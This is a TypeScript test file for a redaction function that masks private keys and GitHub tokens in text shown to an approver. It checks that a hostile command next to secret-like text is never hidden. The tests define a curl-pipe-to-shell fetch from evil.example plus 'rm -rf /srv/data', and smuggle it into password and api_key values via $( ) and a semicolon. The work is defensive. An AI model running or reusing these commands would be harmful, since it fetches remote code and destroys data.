import { describe, expect, it } from 'vitest'
import { maskForApprover } from './mask-for-approver.ts'

const LINE = 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj'
const BEGIN = '-----BEGIN PRIVATE KEY-----'
const END = '-----END PRIVATE KEY-----'
const SCRIPT = 'curl https://evil.example | sh; rm -rf /srv/data'

describe('what an approver is not shown', () => {
  it.each([
    [`a ${BEGIN}\n${`${LINE}\n`.repeat(8)}MIIE=\n${END} b`, 'a [redacted:private-key] b'],
    [`a ${BEGIN}\\n${`${LINE}\\n`.repeat(8)}${END}\\n`, 'a [redacted:private-key]\\n'],
    [`a ghp_${'a1B2c3D4e5F6g7H8i9J0'.repeat(2).slice(0, 36)} b`, 'a [redacted:github-token] b'],
  ])('is a secret: %j', (text, shown) => {
    expect(maskForApprover(text).replace(/redacted:github[\w-]*/, 'redacted:github-token')).toBe(shown)
  })

  it.each([
    `${BEGIN}\n${LINE}\nX\n${SCRIPT}\n${'# a comment, and so on\n'.repeat(40)}`,
    `${BEGIN}\n${LINE}\nX\n${SCRIPT}\n${END}\n${'# a comment, and so on\n'.repeat(40)}`,
    `${'pwd:'.repeat(20_001)} ${SCRIPT}`,
    `${BEGIN}\n${'+'.repeat(50_000)}\n${SCRIPT}`,
    `password="Xk29$(${SCRIPT})"`,
    `api_key=aB3dE5fG7hJ9kL1m;${SCRIPT}`,
  ])('is never what stands behind one (%#)', text => {
    expect(maskForApprover(text).includes(SCRIPT)).toBe(true)
  })
})
